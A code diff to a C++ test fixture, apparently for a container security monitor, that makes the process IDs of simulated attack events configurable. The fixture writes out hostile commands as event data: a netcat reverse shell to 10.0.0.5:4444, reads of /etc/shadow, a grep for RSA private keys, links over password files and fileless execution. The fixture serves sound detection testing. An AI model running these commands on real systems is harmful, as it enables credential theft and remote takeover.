@@ -111,14 +111,15 @@ std::string Args(std::initializer_list<const char*> args) {
 
 }  // namespace
 
-std::vector<std::string> Events(uint64_t base_ts) {
+std::vector<std::string> Events(uint64_t base_ts, int64_t pid_base) {
   Recorder r(base_ts);
+  const int64_t b = pid_base;
   const Proc kiltrun{1, 0, "/kilt/run", Args({"--", "/app/server"}), "kilt-run", "/kilt/run"};
-  const Proc app{100, 1, "/app/server", "", "server", "/app/server"};
+  const Proc app{b + 100, 1, "/app/server", "", "server", "/app/server"};
   r.Spawn(kiltrun, app);
 
   // An interactive shell reads /etc/shadow.
-  Proc bash{101, 100, "bash", Args({"-i"}), "bash", "/usr/bin/bash", 34816};
+  Proc bash{b + 101, b + 100, "bash", Args({"-i"}), "bash", "/usr/bin/bash", 34816};
   r.Spawn(app, bash);
   OpenatExit shadow;
   shadow.fd = 3;
@@ -128,14 +129,14 @@ std::vector<std::string> Events(uint64_t base_ts) {
   r.Emit(bash.pid, CloseExit{0, 3});
 
   // cat /etc/shadow, from the app (an untrusted program reading a sensitive file).
-  Proc cat{102, 100, "cat", Args({"/etc/shadow"}), "cat", "/usr/bin/cat"};
+  Proc cat{b + 102, b + 100, "cat", Args({"/etc/shadow"}), "cat", "/usr/bin/cat"};
   r.Spawn(app, cat);
   r.Emit(cat.pid, shadow);
   r.Emit(cat.pid, CloseExit{0, 3});
   r.Exit(cat, 0);
 
   // nc -e /bin/sh 10.0.0.5 4444: a reverse shell, its socket redirected onto stdin.
-  Proc nc{103, 100, "nc", Args({"-e", "/bin/sh", "10.0.0.5", "4444"}), "nc", "/usr/bin/nc"};
+  Proc nc{b + 103, b + 100, "nc", Args({"-e", "/bin/sh", "10.0.0.5", "4444"}), "nc", "/usr/bin/nc"};
   r.Spawn(app, nc);
   r.Emit(nc.pid, SocketExit{3, 2, 1, 6});
   std::string local = Sockaddr4(172, 17, 0, 2, 40000), remote = Sockaddr4(10, 0, 0, 5, 4444);
@@ -147,12 +148,12 @@ std::vector<std::string> Events(uint64_t base_ts) {
   r.Emit(nc.pid, DupExit{DupKind::kDup2, 0, 3, 0, 0});
 
   // grep for private keys.
-  Proc grep{104, 100, "grep", Args({"-r", "BEGIN RSA PRIVATE", "/root"}), "grep", "/usr/bin/grep"};
+  Proc grep{b + 104, b + 100, "grep", Args({"-r", "BEGIN RSA PRIVATE", "/root"}), "grep", "/usr/bin/grep"};
   r.Spawn(app, grep);
   r.Exit(grep, 1);
 
   // Symlink and hard link over sensitive files, a truncated log, an unlink and a rename.
-  Proc sh{105, 100, "sh", Args({"-c", "ln -s /etc/passwd /tmp/p"}), "sh", "/usr/bin/dash"};
+  Proc sh{b + 105, b + 100, "sh", Args({"-c", "ln -s /etc/passwd /tmp/p"}), "sh", "/usr/bin/dash"};
   r.Spawn(app, sh);
   r.Emit(sh.pid, SymlinkatExit{0, "/etc/passwd", -100, "/tmp/p"});
   r.Emit(sh.pid, LinkatExit{0, -100, "/etc/shadow", -100, "/tmp/s", 0});
@@ -169,7 +170,7 @@ std::vector<std::string> Events(uint64_t base_ts) {
   r.Exit(sh, 0);
 
   // A packet socket, a ptrace attach, a setuid and a mount attempt.
-  Proc tool{106, 100, "tool", "", "tool", "/app/tool"};
+  Proc tool{b + 106, b + 100, "tool", "", "tool", "/app/tool"};
   r.Spawn(app, tool);
   r.Emit(tool.pid, SocketExit{5, 17, 3, 0x300});  // AF_PACKET, SOCK_RAW, ETH_P_ALL
   r.Emit(tool.pid, PtraceExit{-1, 16, 1, 0, 0});  // PTRACE_ATTACH to pid 1: EPERM under Kilt
@@ -179,11 +180,11 @@ std::vector<std::string> Events(uint64_t base_ts) {
   r.Exit(tool, 0);
 
   // Fileless execution: the program runs from a memfd.
-  Proc fileless{107, 100, "payload", "", "payload", "/memfd:payload (deleted)", 0, 4};
+  Proc fileless{b + 107, b + 100, "payload", "", "payload", "/memfd:payload (deleted)", 0, 4};
   r.Spawn(app, fileless);
 
   // Execution from /dev/shm.
-  Proc shm{108, 100, "/dev/shm/x", "", "x", "/dev/shm/x"};
+  Proc shm{b + 108, b + 100, "/dev/shm/x", "", "x", "/dev/shm/x"};
   r.Spawn(app, shm);
   r.Exit(shm, 0);
 
